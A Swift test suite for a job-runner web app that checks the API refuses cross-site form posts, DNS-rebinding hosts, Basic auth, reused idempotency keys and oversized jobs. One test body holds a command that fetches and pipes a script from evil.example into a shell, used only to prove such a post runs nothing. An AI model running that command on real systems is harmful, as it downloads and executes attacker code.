import Foundation
import HTTPTypes
import Hummingbird
import HummingbirdTesting
import Logging
import NIOCore
import Testing

@testable import Wishes
@testable import WishesAWS
@testable import WishesWeb

/// The web front as an attacker tries it (issue 17): another site's page posting forms, a DNS
/// rebinding name, basic auth on the API, a reused idempotency key; and the limits that stop a
/// typo. Each is refused, with S3 and SQS on moto.
@Suite(.serialized)
struct WebTrustTests {
    static let evil = "https://evil.example"

    struct Fixture: Sendable {
        var aws: TestAWS
        var bucket: String
        var queueURL: String
        var book: WishBook

        /// Every key in the bucket: what a refused request must not have written.
        func keys() async throws -> [String] { try await aws.s3.listAllObjects(bucket: bucket).map(\.key) }

        func messages() async throws -> Int { try await aws.sqs.receiveMessages(queueURL: queueURL, waitTimeSeconds: 1).count }
    }

    /// A bucket and a queue of its own, the router over them (in process, authority `localhost`),
    /// and the client that calls it.
    func withWeb(
        token: String? = nil, allowedHosts: AllowedHosts = AllowedHosts(), limits: WishLimits = WishLimits(),
        _ body: @escaping @Sendable (any TestClientProtocol, Fixture) async throws -> Void
    ) async throws {
        let aws = try await TestAWS.moto()
        try await aws.withBucket { bucket in
            try await aws.withQueue { queue in
                let settings = WishesSettings(bucket: bucket, queueURL: queue, asapQueueURL: queue, limits: limits)
                let book = WishBook(aws: AWSClients(client: aws.client), settings: settings)
                let web = WebApp(book: book, token: token, allowedHosts: allowedHosts)
                let fixture = Fixture(aws: aws, bucket: bucket, queueURL: queue, book: book)
                try await Application(router: web.router()).test(.router) { client in try await body(client, fixture) }
            }
        }
    }

    /// The same on a real socket, for the `Host` header, which the in-process client always sets to `localhost`.
    func withLiveWeb(allowedHosts: AllowedHosts = AllowedHosts(), _ body: @escaping @Sendable (_ base: String) async throws -> Void) async throws {
        let aws = try await TestAWS.moto()
        try await aws.withBucket { bucket in
            try await aws.withQueue { queue in
                let book = WishBook(aws: AWSClients(client: aws.client), settings: WishesSettings(bucket: bucket, queueURL: queue))
                let web = WebApp(book: book, token: nil, allowedHosts: allowedHosts)
                let app = Application(router: web.router(), configuration: .init(address: .hostname("127.0.0.1", port: 0)))
                try await app.test(.live) { client in
                    let port = try #require(client.port)
                    try await body("http://127.0.0.1:\(port)")
                }
            }
        }
    }

    static func object(_ response: TestResponse) throws -> [String: Any] {
        try #require(try JSONSerialization.jsonObject(with: Data(buffer: response.body)) as? [String: Any])
    }

    static func error(_ response: TestResponse) -> String? { (try? object(response))?["error"] as? String }

    static func headers(_ fields: [HTTPField.Name: String]) -> HTTPFields {
        var headers = HTTPFields()
        for (name, value) in fields { headers[name] = value }
        return headers
    }

    static let origin = HTTPField.Name("Origin")!
    static let fetchSite = HTTPField.Name("Sec-Fetch-Site")!
    static let idempotencyKey = HTTPField.Name("Idempotency-Key")!

    func post(
        _ client: some TestClientProtocol, _ path: String = "/api/wishes", _ body: String = #"{"wish":"a pony"}"#,
        _ fields: [HTTPField.Name: String] = [.contentType: "application/json"]
    ) async throws -> TestResponse {
        try await client.execute(uri: path, method: .post, headers: Self.headers(fields), body: ByteBuffer(string: body))
    }

    /// The CSRF cookie and token of the home page, as the browser holds them.
    func csrf(_ client: some TestClientProtocol, _ fields: [HTTPField.Name: String] = [:]) async throws -> (cookie: String, token: String) {
        let home = try await client.execute(uri: "/", method: .get, headers: Self.headers(fields))
        let cookie = try #require(home.headers[.setCookie]?.split(separator: ";").first.map(String.init))
        return (cookie, String(cookie.dropFirst("csrf=".count)))
    }

    // MARK: - Another site's page

    /// The classic attack on a local job runner: a plain HTML form on any site posts `text/plain`
    /// (no CORS preflight) whose body happens to be JSON.
    @Test func aCrossSiteTextPlainFormPostToTheAPIIsRefusedAndRunsNothing() async throws {
        try await withWeb { client, fixture in
            let body = #"{"command":["sh","-c","curl evil.example | sh"],"wish":"="}"#
            let fromForm = try await post(client, "/api/wishes", body, [.contentType: "text/plain", Self.origin: Self.evil, Self.fetchSite: "cross-site"])
            #expect(fromForm.status == .forbidden)
            #expect(Self.error(fromForm) == "cross_site_request")
            // An old browser that sends neither header still cannot send JSON without a preflight.
            let noHeaders = try await post(client, "/api/wishes", body, [.contentType: "text/plain"])
            #expect(noHeaders.status == .unsupportedMediaType)
            #expect(try await fixture.keys().isEmpty, "nothing was stored")
            #expect(try await fixture.messages() == 0, "nothing was queued")
        }
    }

    @Test func theAPITakesOnlyJSONBodies() async throws {
        try await withWeb { client, _ in
            for type in [
                "text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json; charset=utf-16",
                "application/jsonx", "text/json",
            ] {
                let response = try await post(client, "/api/wishes", #"{"wish":"x"}"#, [.contentType: type])
                #expect(response.status == .unsupportedMediaType, "\(type)")
                #expect(Self.error(response) == "unsupported_media_type")
                #expect((try Self.object(response)["message"] as? String)?.contains(type) == true, "the answer names \(type)")
            }
            let untyped = try await client.execute(uri: "/api/wishes", method: .post, body: ByteBuffer(string: #"{"wish":"x"}"#))
            #expect(untyped.status == .unsupportedMediaType, "a body must say what it is")
            let cancel = try await post(client, "/api/wishes/01jd5z8q7w3m2k4n6p8r0t2v4x/cancel", "x=1", [.contentType: "application/x-www-form-urlencoded"])
            #expect(cancel.status == .unsupportedMediaType, "on every API route")
            for type in ["application/json", "application/json; charset=utf-8", #"Application/JSON; charset="UTF-8""#] {
                #expect(try await post(client, "/api/wishes", #"{"wish":"x"}"#, [.contentType: type]).status == .accepted, "\(type)")
            }
        }
    }

    @Test func aForeignOriginIsRefusedOnPagesAndAPI() async throws {
        try await withWeb { client, fixture in
            let (cookie, token) = try await csrf(client)
            let form: [HTTPField.Name: String] = [.contentType: "application/x-www-form-urlencoded", .cookie: cookie]
            let unsafe: [(String, String, [HTTPField.Name: String])] = [
                ("/api/wishes", #"{"wish":"x"}"#, [.contentType: "application/json"]),
                ("/api/wishes/01jd5z8q7w3m2k4n6p8r0t2v4x/cancel", "", [:]),
                ("/wishes", "csrf=\(token)&wish=x", form),
                ("/wishes/01jd5z8q7w3m2k4n6p8r0t2v4x/cancel", "csrf=\(token)", form),
            ]
            // Another site; a sandboxed frame (null); another port of localhost, which is the same site but another program.
            for foreign in [Self.evil, "null", "http://localhost:3000", "http://localhost.evil.example", "http://127.0.0.1"] {
                for (path, body, fields) in unsafe {
                    let response = try await post(client, path, body, fields.merging([Self.origin: foreign]) { $1 })
                    #expect(response.status == .forbidden, "\(foreign) → \(path)")
                    #expect(Self.error(response) == "cross_site_request")
                }
            }
            #expect(
                try await post(client, "/api/wishes", #"{"wish":"x"}"#, [.contentType: "application/json", Self.origin: "null", Self.fetchSite: "cross-site"])
                    .status == .forbidden,
                "a sandboxed frame on another site")
            for site in ["cross-site", "same-site", "Cross-Site"] {
                for (path, body, fields) in unsafe {
                    #expect(try await post(client, path, body, fields.merging([Self.fetchSite: site]) { $1 }).status == .forbidden, "\(site) → \(path)")
                }
            }
            #expect(try await fixture.keys().isEmpty, "nothing was stored")
            // Our own pages, and programs that send neither header, pass; reading is never refused.
            #expect(
                try await post(
                    client, "/wishes", "csrf=\(token)&wish=mine", form.merging([Self.origin: "http://localhost", Self.fetchSite: "same-origin"]) { $1 }
                ).status == .seeOther)
            #expect(
                try await post(client, "/api/wishes", #"{"wish":"mine"}"#, [.contentType: "application/json", Self.origin: "http://localhost:80"]).status
                    == .accepted)
            // Under our Referrer-Policy: no-referrer, a browser writes Origin: null on our own form posts.
            #expect(
                try await post(client, "/wishes", "csrf=\(token)&wish=mine", form.merging([Self.origin: "null", Self.fetchSite: "same-origin"]) { $1 }).status
                    == .seeOther)
            #expect(try await post(client).status == .accepted)
            let read = try await client.execute(
                uri: "/api/wishes", method: .get, headers: Self.headers([Self.origin: Self.evil, Self.fetchSite: "cross-site"]))
            #expect(read.status == .ok)
        }
    }

    /// Behind CloudFront the web sees the load balancer's name as `Host` and the viewer's as `Origin`:
    /// the configured names count as its own, at their scheme's default port.
    @Test func aConfiguredNameIsOwnOriginBehindAProxy() async throws {
        let hosts = try AllowedHosts.parse("d1234.cloudfront.net, wishes-lb-1.us-east-1.elb.amazonaws.com")
        try await withWeb(allowedHosts: hosts) { client, _ in
            for (origin, status) in [
                ("https://d1234.cloudfront.net", HTTPResponse.Status.accepted), ("https://d1234.cloudfront.net:8443", .forbidden),
                ("https://d9999.cloudfront.net", .forbidden), ("http://wishes-lb-1.us-east-1.elb.amazonaws.com", .accepted),
            ] {
                let response = try await post(client, "/api/wishes", #"{"wish":"x"}"#, [.contentType: "application/json", Self.origin: origin])
                #expect(response.status == status, "\(origin)")
            }
        }
    }

    // MARK: - DNS rebinding

    /// A page of `evil.example`, whose name now answers with 127.0.0.1, calls the local web: the
    /// browser sends `Host: evil.example:PORT`, which gets 421 on every route but the health check.
    @Test func aDNSRebindingHostGets421() async throws {
        try await withLiveWeb { base in
            let port = try #require(URL(string: base)?.port)
            for path in ["/", "/api/wishes", "/wishes", "/openapi.yaml", "/metrics", "/login"] {
                let answer = try await HTTP.call("GET", "\(base)\(path)", headers: ["Host": "evil.example:\(port)"])
                #expect(answer.status == 421, "\(path)")
                #expect(answer.body.contains("misdirected_request"))
            }
            let posted = try await HTTP.call(
                "POST", "\(base)/api/wishes", body: #"{"wish":"x"}"#, headers: ["Host": "evil.example", "Content-Type": "application/json"])
            #expect(posted.status == 421)
            for host in ["127.0.0.1:\(port)", "localhost:\(port)", "LOCALHOST.:\(port)", "[::1]:\(port)", "127.0.0.1"] {
                #expect(try await HTTP.call("GET", "\(base)/api/wishes", headers: ["Host": host]).status == 200, "\(host)")
            }
            for host in ["127.0.0.1.evil.example", "localhost.evil.example:\(port)", "127.0.0.2:\(port)", "user@127.0.0.1", "0.0.0.0:\(port)"] {
                #expect(try await HTTP.call("GET", "\(base)/api/wishes", headers: ["Host": host]).status != 200, "\(host)")
            }
            // An Application Load Balancer's health check names the task's private address.
            #expect(try await HTTP.call("GET", "\(base)/healthz", headers: ["Host": "10.0.3.7:8080"]).status == 200)
        }
    }

    @Test func theAllowedHostsAddNamesWithOrWithoutAPort() async throws {
        try await withLiveWeb(allowedHosts: try AllowedHosts.parse("wishes.example.com,lb.example.com:8443")) { base in
            for (host, status) in [
                ("wishes.example.com", 200), ("WISHES.example.com:9000", 200), ("lb.example.com:8443", 200),
                ("lb.example.com:9000", 421), ("other.example.com", 421),
            ] {
                let answer = try await HTTP.call("GET", "\(base)/api/wishes", headers: ["Host": host])
                #expect(answer.status == status, "\(host)")
            }
        }
    }

    @Test func allowedHostsAreHostAndPortNames() throws {
        #expect(try AllowedHosts.parse("").configured.isEmpty)
        #expect(
            try AllowedHosts.parse(" a.example , [2001:db8::1]:8080,b.example:443 ").configured
                == [Authority(host: "a.example"), Authority(host: "[2001:db8::1]", port: 8080), Authority(host: "b.example", port: 443)])
        for bad in ["https://a.example", "a.example/path", "a.example:http", "a.example:70000", "2001:db8::1", "a b", "user@a.example"] {
            #expect(throws: WebSettingsError.self, "\(bad)") { try AllowedHosts.parse(bad) }
        }
    }

    // MARK: - The token

    @Test func basicAuthAndTheSignInCookieAreRefusedOnTheAPI() async throws {
        try await withWeb(token: "s3cret-token") { client, fixture in
            let basic = "Basic " + Data("me:s3cret-token".utf8).base64EncodedString()
            let listed = try await client.execute(uri: "/api/wishes", method: .get, headers: [.authorization: basic])
            #expect(listed.status == .unauthorized)
            #expect((try Self.object(listed)["message"] as? String)?.contains("only Authorization: Bearer") == true)
            #expect(listed.headers[.wwwAuthenticate]?.hasPrefix("Bearer") == true, "not Basic: no browser prompt for the API")
            #expect(try await post(client, "/api/wishes", #"{"wish":"x"}"#, [.contentType: "application/json", .authorization: basic]).status == .unauthorized)
            // The path decoded is the API too: its rules cannot be dodged by spelling.
            #expect(try await client.execute(uri: "/%61pi/wishes", method: .get, headers: [.authorization: basic]).status != .ok)
            let session = "\(WebSession.cookieName)=\(WebSession.value(token: "s3cret-token"))"
            #expect(try await client.execute(uri: "/api/wishes", method: .get, headers: [.cookie: session]).status == .unauthorized)
            #expect(try await fixture.keys().isEmpty)
            // The pages take all three; the API the bearer token.
            for credential: [HTTPField.Name: String] in [[.authorization: basic], [.cookie: session], [.authorization: "Bearer s3cret-token"]] {
                #expect(try await client.execute(uri: "/", method: .get, headers: Self.headers(credential)).status == .ok)
            }
            #expect(try await client.execute(uri: "/api/wishes", method: .get, headers: [.authorization: "bearer s3cret-token"]).status == .ok)
            #expect(try await client.execute(uri: "/openapi.yaml", method: .get).status == .ok, "the API's description is public")
        }
    }

    @Test func theSignInLinkSetsAStrictHttpOnlyCookieThatOpensThePagesOnly() async throws {
        try await withWeb(token: "s3cret-token") { client, _ in
            let wrong = try await client.execute(uri: "/login?token=guess", method: .get)
            #expect(wrong.status == .unauthorized)
            #expect(wrong.headers[.setCookie] == nil)
            let signedIn = try await client.execute(uri: "/login?token=s3cret-token", method: .get)
            #expect(signedIn.status == .ok)
            let cookie = try #require(signedIn.headers[.setCookie])
            #expect(cookie.hasPrefix("\(WebSession.cookieName)="))
            for attribute in ["HttpOnly", "SameSite=Strict", "Path=/"] { #expect(cookie.contains(attribute), "\(attribute) in \(cookie)") }
            #expect(!cookie.contains("Secure"), "plain http on loopback: a Secure cookie would never be sent back")
            #expect(!cookie.contains("s3cret-token"), "the cookie is not the token")
            #expect(String(buffer: signedIn.body).contains(#"http-equiv="refresh" content="0; url=/""#), "the page moves on to the button")
            let session = try #require(cookie.split(separator: ";").first.map(String.init))
            #expect(try await client.execute(uri: "/", method: .get, headers: [.cookie: session]).status == .ok)
            #expect(try await client.execute(uri: "/api/wishes", method: .get, headers: [.cookie: session]).status == .unauthorized)
            // The form: the token in a POST body keeps it out of the address bar and the history.
            #expect(String(buffer: try await client.execute(uri: "/login", method: .get).body).contains(#"<form method="post" action="/login">"#))
            let posted = try await post(client, "/login", "token=s3cret-token", [.contentType: "application/x-www-form-urlencoded"])
            #expect(posted.headers[.setCookie]?.hasPrefix(session) == true)
            let forged = try await post(client, "/login", "token=s3cret-token", [.contentType: "application/x-www-form-urlencoded", Self.origin: Self.evil])
            #expect(forged.status == .forbidden, "another site cannot sign a browser in")
            // Behind CloudFront the browser speaks HTTPS: the cookie is Secure.
            let https = try await client.execute(
                uri: "/login?token=s3cret-token", method: .get, headers: [HTTPField.Name("CloudFront-Forwarded-Proto")!: "https"])
            #expect(https.headers[.setCookie]?.hasSuffix("; Secure") == true)
        }
    }

    @Test func webRefusesToListenBeyondLoopbackWithoutAToken() throws {
        for host in ["0.0.0.0", "::", "10.0.0.5", "wishes.example.com"] {
            #expect(throws: WebSettingsError.tokenRequired(host: host)) { try WebSettings.fromEnvironment(["WISHES_WEB_HOST": host]) }
            let message = "\(WebSettingsError.tokenRequired(host: host))"
            #expect(message.contains("WISHES_WEB_HOST") && message.contains("WISHES_API_TOKEN"), "\(message)")
            #expect(try WebSettings.fromEnvironment(["WISHES_WEB_HOST": host, "WISHES_API_TOKEN": "t"]).token == "t")
        }
        for host in ["127.0.0.1", "127.0.0.53", "::1", "[::1]", "localhost", "LOCALHOST"] {
            #expect(try WebSettings.fromEnvironment(["WISHES_WEB_HOST": host]).host == host)
        }
        #expect(try WebSettings.fromEnvironment([:]) == WebSettings(host: "127.0.0.1", port: 8080))
        #expect(throws: WebSettingsError.self) { try WebSettings.fromEnvironment(["WISHES_WEB_PORT": "eighty"]) }
        #expect(throws: WebSettingsError.self) { try WebSettings.fromEnvironment(["WISHES_WEB_ALLOWED_HOSTS": "https://x"]) }
    }

    /// The built binary: it stops at once, exit 1, with both variables named on stderr.
    @Test func theWebBinaryExitsNonZeroOnAPublicAddressWithoutAToken() async throws {
        let process = Process()
        process.executableURL = BuiltProducts.url("Web")
        process.environment = [
            "PATH": "/usr/bin:/bin", "WISHES_WEB_HOST": "0.0.0.0", "WISHES_WEB_PORT": String(try freePort()),
            "WISHES_BUCKET": "b", "WISHES_QUEUE_URL": "http://127.0.0.1:1/000000000000/q", "AWS_REGION": "us-east-1",
        ]
        let stderr = Pipe()
        process.standardError = stderr
        process.standardOutput = FileHandle.nullDevice
        try process.run()
        try await offPool { process.waitUntilExit() }
        let text = String(decoding: stderr.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
        #expect(process.terminationStatus != 0)
        #expect(text.contains("WISHES_WEB_HOST") && text.contains("WISHES_API_TOKEN"), "\(text)")
    }

    // MARK: - Limits

    @Test func aWishWithoutATimeoutGetsTheDefaultAndOnePastTheMaximumIsRefused() async throws {
        try await withWeb(limits: WishLimits(defaultTimeoutSeconds: 120, maxTimeoutSeconds: 600)) { client, fixture in
            let accepted = try await post(client, "/api/wishes", #"{"wish":"no timeout"}"#)
            #expect(accepted.status == .accepted)
            #expect((try Self.object(accepted)["spec"] as? [String: Any])?["timeoutSeconds"] as? Int == 120, "the answer shows the timeout it runs with")
            let id = try #require(try Self.object(accepted)["id"] as? String)
            let stored = try await fixture.aws.s3.getObject(bucket: fixture.bucket, key: S3Layout().spec(try #require(WishID(id))))
            #expect(try WishJSON.decode(WishSpec.self, from: stored.body).timeoutSeconds == 120, "the stored spec names it, for the task and the sweep")
            #expect(try await post(client, "/api/wishes", #"{"wish":"at the max","timeoutSeconds":600}"#).status == .accepted)
            let refused = try await post(client, "/api/wishes", #"{"wish":"too long","timeoutSeconds":601}"#)
            #expect(refused.status == .badRequest)
            let problem = try #require((try Self.object(refused)["problems"] as? [[String: String]])?.first)
            #expect(problem["field"] == "timeoutSeconds")
            #expect(problem["rule"]?.contains("WISHES_MAX_TIMEOUT_SECONDS") == true)
            let document = String(buffer: try await client.execute(uri: "/openapi.yaml", method: .get).body)
            #expect(document.contains("timeoutSeconds: {type: integer, minimum: 60, maximum: 600}"), "the document says this web's maximum")
        }
    }

    @Test func vCPUsTimesArraySizeOverTheCapIsRefused() async throws {
        try await withWeb(limits: WishLimits(maxArrayVCPUs: 100)) { client, fixture in
            let typo = try await post(client, "/api/wishes", #"{"wish":"many","arraySize":500,"vcpus":16,"memory":32768}"#)
            #expect(typo.status == .badRequest)
            let problem = try #require((try Self.object(typo)["problems"] as? [[String: String]])?.first)
            #expect(problem["field"] == "arraySize")
            #expect(problem["rule"]?.contains("500 × 16 vCPU = 8000 vCPU") == true || problem["rule"]?.contains("8,000") == true, "\(problem)")
            #expect(problem["rule"]?.contains("WISHES_MAX_ARRAY_VCPUS") == true)
            #expect(try await post(client, "/api/wishes", #"{"wish":"one too many","arraySize":401}"#).status == .badRequest, "401 × 0.25 > 100")
            let big = try await post(client, "/api/wishes", #"{"wish":"big","vcpus":16,"memory":32768}"#)
            #expect(big.status == .accepted, "a plain wish counts once")
            #expect(try await post(client, "/api/wishes", #"{"wish":"just fits","arraySize":400}"#).status == .accepted, "400 × 0.25 = 100")
            #expect(try await fixture.messages() == 2)
        }
    }

    @Test func limitsComeFromTheEnvironmentAndAValueThatCannotWorkStopsTheProgram() throws {
        #expect(try WishLimits.fromEnvironment([:]) == WishLimits(defaultTimeoutSeconds: 86_400, maxTimeoutSeconds: 1_209_600, maxArrayVCPUs: 2_500))
        let set = try WishLimits.fromEnvironment([
            "WISHES_DEFAULT_TIMEOUT_SECONDS": "3600", "WISHES_MAX_TIMEOUT_SECONDS": "7200", "WISHES_MAX_ARRAY_VCPUS": "64.5",
        ])
        #expect(set == WishLimits(defaultTimeoutSeconds: 3600, maxTimeoutSeconds: 7200, maxArrayVCPUs: 64.5))
        #expect(try WishesSettings.fromEnvironment(["WISHES_BUCKET": "b", "WISHES_MAX_ARRAY_VCPUS": "8"]).limits.maxArrayVCPUs == 8)
        for bad in [
            ["WISHES_DEFAULT_TIMEOUT_SECONDS": "7200", "WISHES_MAX_TIMEOUT_SECONDS": "3600"], ["WISHES_MAX_TIMEOUT_SECONDS": "59"],
            ["WISHES_MAX_TIMEOUT_SECONDS": "2000000"], ["WISHES_DEFAULT_TIMEOUT_SECONDS": "1h"], ["WISHES_MAX_ARRAY_VCPUS": "0"],
            ["WISHES_MAX_ARRAY_VCPUS": "lots"],
        ] {
            #expect(throws: SettingsError.self, "\(bad)") { try WishLimits.fromEnvironment(bad) }
        }
        #expect("\(SettingsError.invalid("WISHES_MAX_ARRAY_VCPUS", "must be a number"))".contains("WISHES_MAX_ARRAY_VCPUS"))
    }

    /// A wish sent straight to the queue meets the same limits in the dispatcher.
    @Test func theDispatcherHoldsAWishSentStraightToTheQueueToTheLimits() async throws {
        try await withWeb(limits: WishLimits(maxArrayVCPUs: 10)) { _, fixture in
            let settings = WishesSettings(
                bucket: fixture.bucket, queueURL: fixture.queueURL, cluster: "wishes", taskDefinition: "count-to-three:3",
                limits: WishLimits(maxArrayVCPUs: 10))
            let dispatcher = Dispatcher(aws: AWSClients(client: fixture.aws.client), settings: settings)
            let id = WishID.generate(at: Date())
            let body = #"{"id":"\#(id)","spec":{"wish":"typo","arraySize":1000}}"#
            let record = SQSEvent.Record(
                messageId: "m", receiptHandle: "r", body: body, attributes: ["ApproximateReceiveCount": "1"],
                eventSourceARN: "arn:aws:sqs:us-east-1:000000000000:wishes")
            try await dispatcher.handle(record, logger: Logger(label: "test"))
            let status = try #require(try await dispatcher.statuses.read(WishSubject(id: id)))
            #expect(status.state == .failed)
            #expect(status.statusReason?.contains("WISHES_MAX_ARRAY_VCPUS") == true, "\(status.statusReason ?? "")")
        }
    }

    @Test func anUnknownDependencyIsRefusedWithItsName() async throws {
        try await withWeb { client, fixture in
            let first = try #require(try Self.object(try await post(client, "/api/wishes", #"{"wish":"first"}"#))["id"] as? String)
            let before = try await fixture.keys().count
            let missing = WishID.generate(at: Date()).rawValue
            let refused = try await post(client, "/api/wishes", #"{"wish":"waits","dependsOn":["\#(first)","\#(missing)"]}"#)
            #expect(refused.status == .badRequest)
            let problems = try #require(try Self.object(refused)["problems"] as? [[String: String]])
            #expect(problems.map { $0["field"] } == ["dependsOn[1]"])
            #expect(problems.first?["rule"]?.contains(missing) == true, "\(problems)")
            #expect(try await fixture.keys().count == before, "nothing was stored")
            #expect(try await post(client, "/api/wishes", #"{"wish":"waits","dependsOn":["\#(first)"]}"#).status == .accepted)
            // The page's form says so too, next to the field.
            let (cookie, token) = try await csrf(client)
            let page = try await post(
                client, "/wishes", "csrf=\(token)&wish=w&dependsOn=\(missing)", [.contentType: "application/x-www-form-urlencoded", .cookie: cookie])
            #expect(page.status == .badRequest)
            #expect(String(buffer: page.body).contains(missing))
        }
    }

    // MARK: - Idempotency

    @Test func aKeyReusedWithAnotherBodyIsRefusedWith422() async throws {
        try await withWeb { client, fixture in
            let key: [HTTPField.Name: String] = [.contentType: "application/json", Self.idempotencyKey: "order-42"]
            let first = try Self.object(try await post(client, "/api/wishes", #"{"wish":"a pony","attempts":2}"#, key))
            let id = try #require(first["id"] as? String)
            let reused = try await post(client, "/api/wishes", #"{"wish":"a pony","attempts":3}"#, key)
            #expect(reused.status == .unprocessableContent)
            #expect(Self.error(reused) == "idempotency_key_reused")
            #expect((try Self.object(reused)["message"] as? String)?.contains(id) == true, "the answer names the first wish")
            // The same request, spelled differently, is the same request.
            let again = try await post(client, "/api/wishes", "{ \"attempts\": 2.0,\n \"wish\": \"a pony\" }", key)
            #expect(again.status == .accepted)
            #expect(try Self.object(again)["id"] as? String == id)
            // A secret's value counts too, and is not readable from the stored claim.
            let secretKey = key.merging([Self.idempotencyKey: "order-43"]) { $1 }
            let withSecret = #"{"wish":"s","environment":[{"name":"TOKEN","value":"hunter2"}]}"#
            #expect(try await post(client, "/api/wishes", withSecret, secretKey).status == .accepted)
            #expect(
                try await post(client, "/api/wishes", withSecret.replacingOccurrences(of: "hunter2", with: "hunter3"), secretKey).status
                    == .unprocessableContent)
            for key in try await fixture.keys() where key.hasPrefix("idempotency/") {
                let claim = String(decoding: try await fixture.aws.s3.getObject(bucket: fixture.bucket, key: key).body, as: UTF8.self)
                #expect(!claim.contains("hunter2"))
            }
            #expect(try await fixture.messages() == 2, "two wishes, two messages")
        }
    }

    /// The order of the writes, seen by a proxy in front of S3: spec and status, then the claim;
    /// and a store that fails leaves the key free, so the retry makes a wish that runs.
    @Test func theKeyIsClaimedOnlyAfterTheWishIsStored() async throws {
        let aws = try await TestAWS.moto()
        let proxy = try await PeerProcess.start(script: "refusing_proxy.py", arguments: [aws.endpoint.description])
        try await aws.withBucket { bucket in
            try await aws.withQueue { queue in
                let configuration = AWSConfiguration(region: "us-east-1", endpoints: [.s3: proxy.endpoint, .sqs: aws.endpoint])
                let client = AWSClient(
                    configuration: configuration, httpClient: TestAWS.httpClient,
                    credentialProvider: StaticCredentialProvider(aws.roleCredentials), retry: RetryPolicy(maxAttempts: 1))
                let book = WishBook(aws: AWSClients(client: client), settings: WishesSettings(bucket: bucket, queueURL: queue))
                let spec = WishSpec(wish: "ordered")
                _ = try await book.submit(spec, idempotencyKey: "k1")
                let log = try String(contentsOf: proxy.log, encoding: .utf8).split(separator: "\n").map(String.init)
                let puts = log.filter { $0.hasPrefix("forwarded PUT") }
                let claim = try #require(puts.firstIndex { $0.contains("/idempotency/") })
                #expect(puts[..<claim].contains { $0.hasSuffix("/spec.json") }, "\(puts)")
                #expect(puts[..<claim].contains { $0.hasSuffix("/status.json") }, "\(puts)")
                #expect(puts[..<claim].contains { $0.contains("/index/") }, "\(puts)")

                // The status write fails: no claim is left behind.
                _ = try await HTTP.call("POST", "\(proxy.endpoint)/_test/refuse?pattern=PUT%20.*/status%5C.json$")
                await #expect(throws: WishBook.SubmitError.self) { _ = try await book.submit(spec, idempotencyKey: "k2") }
                _ = try await HTTP.call("POST", "\(proxy.endpoint)/_test/refuse?pattern=")
                let keys = try await aws.s3.listAllObjects(bucket: bucket).map(\.key)
                #expect(keys.filter { $0.hasPrefix("idempotency/") }.count == 1, "only k1's claim: \(keys)")
                let retried = try await book.submit(spec, idempotencyKey: "k2")
                #expect(retried.created, "the retry makes a wish, rather than answering with one that was never queued")
                #expect(try await book.statuses.read(WishSubject(id: retried.status.id)) != nil)
            }
        }
    }

    /// A call that claimed its key and died before sending its message: the retry sends it, and the
    /// dispatcher's claim per attempt keeps a second message from starting a second task.
    @Test func aRetryAfterADeathBetweenClaimAndQueueSendsTheMessage() async throws {
        try await withWeb { _, fixture in
            let spec = WishSpec(wish: "orphan")
            let id = WishID.generate(at: Date())
            let now = Date()
            _ = try await fixture.book.store.create(try fixture.book.settings.limits.apply(to: spec), id: id, createdAt: now, updatedAt: now)
            let claim = IdempotencyClaim(id: id, request: try IdempotencyClaim.fingerprint(key: "k", spec: spec), queued: nil)
            try await fixture.aws.s3.putObject(
                bucket: fixture.bucket, key: S3Layout().idempotency(keyHash: IdempotencyClaim.keyHash("k")), body: WishJSON.encode(claim))
            let answer = try await fixture.book.submit(spec, idempotencyKey: "k")
            #expect(answer.status.id == id)
            #expect(!answer.created)
            let messages = try await fixture.aws.sqs.receiveMessages(queueURL: fixture.queueURL, waitTimeSeconds: 1)
            #expect(messages.map { try? WishJSON.decode(WishMessage.self, from: Array($0.Body.utf8)).id } == [id])
        }
    }

    /// A queue that cannot be reached: the 503 releases the key, so the retry makes a wish that runs
    /// instead of answering 202 with the one that never will.
    @Test func aWishThatCouldNotBeQueuedReleasesItsKey() async throws {
        try await withWeb { _, fixture in
            let lost = WishBook(
                aws: fixture.book.aws, settings: WishesSettings(bucket: fixture.bucket, queueURL: "http://127.0.0.1:1/000000000000/no-such-queue"))
            let spec = WishSpec(wish: "again")
            var failed: WishID?
            do { _ = try await lost.submit(spec, idempotencyKey: "k") } catch let WishBook.SubmitError.notQueued(id, _) { failed = id }
            let first = try #require(failed)
            let retried = try await fixture.book.submit(spec, idempotencyKey: "k")
            #expect(retried.created)
            #expect(retried.status.id != first)
            #expect(try await fixture.messages() == 1)
        }
    }

    /// Five calls at once with one key and one body: one wish, and no stray wish in the list (a call
    /// that finds the claim before the winner has queued sends the message once more, which is harmless).
    @Test func concurrentCallsWithOneKeyMakeOneWish() async throws {
        try await withWeb { client, fixture in
            let ids = try await withThrowingTaskGroup(of: String?.self) { group in
                for _ in 0..<5 {
                    group.addTask {
                        let response = try await post(
                            client, "/api/wishes", #"{"wish":"once"}"#, [.contentType: "application/json", Self.idempotencyKey: "same"])
                        return try Self.object(response)["id"] as? String
                    }
                }
                return try await group.reduce(into: Set<String?>()) { $0.insert($1) }
            }
            #expect(ids.count == 1 && ids.first! != nil, "\(ids)")
            let index = try await fixture.keys().filter { $0.hasPrefix("index/") }
            #expect(index.count == 1, "the losers' records are removed: \(index)")
            let list = try Self.object(try await client.execute(uri: "/api/wishes", method: .get))
            #expect((list["wishes"] as? [Any])?.count == 1)
        }
    }
}
